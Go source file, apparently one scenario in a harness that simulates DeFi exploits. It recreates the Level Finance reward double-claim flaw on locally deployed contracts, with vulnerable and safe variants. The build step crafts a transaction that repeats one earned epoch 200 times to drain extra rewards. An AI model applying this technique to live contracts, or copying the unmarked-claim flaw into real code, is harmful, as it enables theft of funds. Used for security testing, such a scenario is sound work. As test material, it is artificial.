package attack

import (
	"context"
	"fmt"
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"
)

// RewardDoubleClaim re-creates the reward-accounting flaw of Level Finance
// (May 2023): claimMultiple paid every epoch listed without marking it
// claimed, so an epoch repeated in the list paid again.
//
// Setup deploys the reward token LVLx and RewardClaimController holding
// 50,000 LVLx; the owner records epoch 1's referral rewards: 100 LVLx for
// the attacker (earned honestly), 500 and 800 for two honest referrers. The
// exploit is one transaction from the attacker's EOA: claimMultiple with
// epoch 1 listed 200 times.
//
// Vulnerable: claimMultiple never marks epochs. Safe: it marks each one and
// the first repeat reverts the call.
//
// Units: LVLx. Profit and loss leave out the 100 LVLx the attacker was owed.
type RewardDoubleClaim struct{}

// rewardRepeats is how often the exploit lists the epoch.
const rewardRepeats = 200

// Info implements Scenario.
func (RewardDoubleClaim) Info() Info {
	return Info{
		Name:     "reward-double-claim",
		Class:    "reward accounting (claim without marking)",
		Incident: "Level Finance May 2023 (LevelReferralControllerV2.claimMultiple)",
		Summary: "The attacker passes its one earned epoch 200 times to claimMultiple, which checks but never marks " +
			"epochs as claimed, and is paid 200 times its referral reward.",
	}
}

// Setup implements Scenario.
func (RewardDoubleClaim) Setup(ctx context.Context, env *Env, v Variant) (Staged, error) {
	const name = "reward-double-claim"
	if err := prepare(name, env, v, 2); err != nil {
		return nil, err
	}
	c, d := env.Client, env.Deployer
	lvl, err := deployToken(ctx, c, d, "Level X", "LVLx", tokens(10_000_000))
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	ctl, err := deployNamed(ctx, c, d, "RewardClaimController", lvl.Address, env.Guardian.Address, v == Safe)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	if err := giveTokens(ctx, lvl, d, tokens(50_000), ctl.Address); err != nil {
		return nil, fmt.Errorf("%s: fund rewards: %w", name, err)
	}
	entitled := tokens(100)
	accounts := []common.Address{env.Attacker.Address, env.Users[0].Address, env.Users[1].Address}
	amounts := []*big.Int{entitled, tokens(500), tokens(800)}
	if err := transact(ctx, ctl, d, nil, "record epoch rewards", "setRewards", big.NewInt(1), accounts, amounts); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	s := &incidentStaged{
		client:      c,
		targets:     []Target{{Name: "RewardClaimController", Address: ctl.Address, Pausable: true}},
		book:        &ledger{client: c, unit: "LVLx", assets: []pricedAsset{{symbol: "LVLx", token: lvl, price: unitOne()}}},
		attackerEOA: env.Attacker.Address,
		attackers:   []common.Address{env.Attacker.Address},
		victims:     []common.Address{ctl.Address},
	}
	// What the attacker was owed anyway, once paid.
	s.offset = func(ctx context.Context) (*big.Int, error) {
		got, err := lvl.CallBig(ctx, "balanceOf", env.Attacker.Address)
		if err != nil {
			return nil, fmt.Errorf("%s: attacker LVLx: %w", name, err)
		}
		if got.Cmp(entitled) < 0 {
			return got, nil
		}
		return entitled, nil
	}
	s.build = func(ctx context.Context) ([]*types.Transaction, error) {
		epochs := make([]*big.Int, rewardRepeats)
		for i := range epochs {
			epochs[i] = big.NewInt(1)
		}
		tx, err := buildCall(ctx, c, env.Attacker, ctl, nil, "claimMultiple", epochs, env.Attacker.Address)
		if err != nil {
			return nil, fmt.Errorf("%s: %w", name, err)
		}
		return []*types.Transaction{tx}, nil
	}
	if err := s.baseline(ctx); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	return s, nil
}
